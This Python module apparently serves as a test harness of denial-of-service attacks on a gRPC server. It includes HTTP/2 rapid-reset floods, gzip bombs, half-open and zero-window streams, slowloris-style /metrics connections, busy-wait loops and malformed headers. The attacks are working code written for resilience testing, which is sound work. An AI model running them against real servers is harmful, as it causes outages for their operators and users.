"""Attacks on the door of a server: each is a context manager that holds its calls open.

Floods of frames that gRPC's own core turns down are not among them.
"""

import asyncio
import contextlib
import socket
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import partial
from typing import Any

import grpc
import grpc.aio
import http2
import wire
from acpc.v1 import diagnostic_service_pb2, scoring_service_pb2
from google.longrunning import operations_pb2
from google.protobuf.message import Message

MIB = 2**20
PAIR = "/acpc.v1.DiagnosticService/ComparePair"
# Paths and further fields of calls that no library would send.
ODD_HEADERS: tuple[tuple[str, tuple[tuple[bytes, bytes], ...]], ...] = (
    *((path, ()) for path in ("/\udcff\udcfe/x", "", "no-slash", "/" + "x" * 7000, "/a\0/b", "//")),
    *(
        (PAIR, ((name, value),))
        for name, value in (
            (b"te", b"\xff"),
            (b"content-type", b"text/\xff"),
            (b"grpc-timeout", b"-1\xff"),
            (b"grpc-timeout", b"99999999999H"),
            (b"grpc-encoding", b"\xff"),
            (b"host", b"\xff"),
            (b"x-request-id", b"\xff\xfe\0"),
            (b"x-data-bin", b"!!!!"),
            (b"x-\xff", b"value"),
            (b"authorization", b"Bearer \xff\xfe"),
        )
    ),
    (PAIR, ((b"authorization", b"one"), (b"authorization", b"another"))),
)


@dataclass(frozen=True)
class Target:
    """Where a server listens.

    Attributes:
        address: ``host:port`` of gRPC.
        metrics: ``host:port`` of ``/metrics``.
        operation: Name of a job that has not ended, to wait for.
    """

    address: str
    metrics: str
    operation: str = ""


Attack = Callable[[Target], contextlib.AbstractContextManager[None]]


@contextmanager
def half_open(target: Target, path: str, count: int) -> Iterator[None]:
    """Calls that send their headers and never a body."""
    with http2.Connection(target.address) as connection:
        for _ in range(count):
            connection.call(path)
        yield


@contextmanager
def whole(
    target: Target, path: str, make: Callable[[Target], Message], count: int, **options: Any
) -> Iterator[None]:
    """Whole calls over one connection, whose answers are left alone."""
    body = http2.message(make(target).SerializeToString())
    with http2.Connection(target.address, **options) as connection:
        for _ in range(count):
            connection.body(connection.call(path), body, end=True)
        yield


@contextmanager
def short_bodies(target: Target) -> Iterator[None]:
    """10 bodies of 63 MiB that lack their last byte: two more than are read at once."""
    size = 63 * MIB
    body = http2.message(bytes(size - 1), length=size)
    with ExitStack() as stack:
        opened = [stack.enter_context(http2.Connection(target.address)) for _ in range(10)]

        def send(connection: http2.Connection) -> None:
            with contextlib.suppress(OSError):
                connection.body(connection.call(PAIR), body, seconds=5)

        threads = [threading.Thread(target=send, args=(one,)) for one in opened]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        yield


@contextmanager
def gzip_bombs(target: Target) -> Iterator[None]:
    """4 messages of gzip that inflate to twice the limit of a message."""
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join(packer.compress(bytes(MIB)) for _ in range(128)) + packer.flush()
    with http2.Connection(target.address) as connection:
        for _ in range(4):
            number = connection.call(PAIR, (b"grpc-encoding", b"gzip"))
            connection.body(number, http2.message(bomb, compressed=True), end=True)
        yield


@contextmanager
def scrape_connections(target: Target) -> Iterator[None]:
    """200 connections to /metrics that never finish their request."""
    host, _, port = target.metrics.rpartition(":")
    with ExitStack() as stack:
        for _ in range(200):
            opened = socket.create_connection((host, int(port)), timeout=2)
            stack.enter_context(opened).sendall(b"GET /metrics HTTP/1.1\r\n")
        yield


@contextmanager
def busy_waits(target: Target) -> Iterator[None]:
    """1,000 WaitOperation calls that return at once, and are asked again without end."""
    request = operations_pb2.WaitOperationRequest(name=target.operation, timeout={})
    over = threading.Event()

    async def attack() -> None:
        async with grpc.aio.insecure_channel(target.address) as channel:
            ask = channel.unary_unary("/google.longrunning.Operations/WaitOperation")

            async def again() -> None:
                while not over.is_set():
                    with contextlib.suppress(grpc.RpcError):
                        await ask(request.SerializeToString())

            await asyncio.gather(*(again() for _ in range(1000)))

    thread = threading.Thread(target=lambda: asyncio.run(attack()))
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


@contextmanager
def unread_streams(target: Target) -> Iterator[None]:
    """32 ComparePairs streams of two pairs each whose answers are given no room to be sent."""
    request = diagnostic_service_pb2.ComparePairsRequest(pair_id="unread", pair=wire.pair())
    body = http2.message(request.SerializeToString()) * 2
    with http2.Connection(target.address, window=0) as connection:
        for _ in range(32):
            connection.body(connection.call("/acpc.v1.DiagnosticService/ComparePairs"), body)
        yield


@contextmanager
def rapid_reset(target: Target) -> Iterator[None]:
    """Calls that are reset as soon as they are made, as fast as they can be sent."""
    over, block = threading.Event(), http2.request_headers(PAIR)
    reset = struct.pack(">I", http2.CANCEL)

    def run(connection: http2.Connection) -> None:
        with contextlib.suppress(OSError):  # the server closes the connection
            while not over.is_set():
                for number in [connection.stream() for _ in range(100)]:
                    connection.send(
                        http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
                        + http2.frame(http2.RST_STREAM, 0, number, reset)
                    )

    with http2.Connection(target.address) as connection:
        thread = threading.Thread(target=run, args=(connection,))
        thread.start()
        try:
            yield
        finally:
            over.set()
            thread.join()


ATTACKS: dict[str, Attack] = {
    "half_open_unary": partial(half_open, path=PAIR, count=88),
    "idle_Plan": partial(half_open, path="/acpc.v1.DiagnosticService/Plan", count=32),
    "idle_UploadAnchors": partial(
        half_open, path="/acpc.v1.AnchorService/UploadAnchors", count=32
    ),
    "waits": partial(
        whole, path="/google.longrunning.Operations/WaitOperation", count=80,
        make=lambda target: operations_pb2.WaitOperationRequest(
            name=target.operation, timeout={"seconds": 60}
        ),
    ),
    "watches": partial(
        whole, path="/acpc.v1.ScoringService/WatchOperation", count=80,
        make=lambda target: scoring_service_pb2.WatchOperationRequest(name=target.operation),
    ),
    "unread_answers": partial(whole, path=PAIR, make=lambda _: wire.pair(), count=88, window=0),
    "short_bodies": short_bodies,
    "gzip_bombs": gzip_bombs,
    "scrape_connections": scrape_connections,
    "busy_waits": busy_waits,
    "unread_streams": unread_streams,
    "rapid_reset": rapid_reset,
}  # fmt: skip
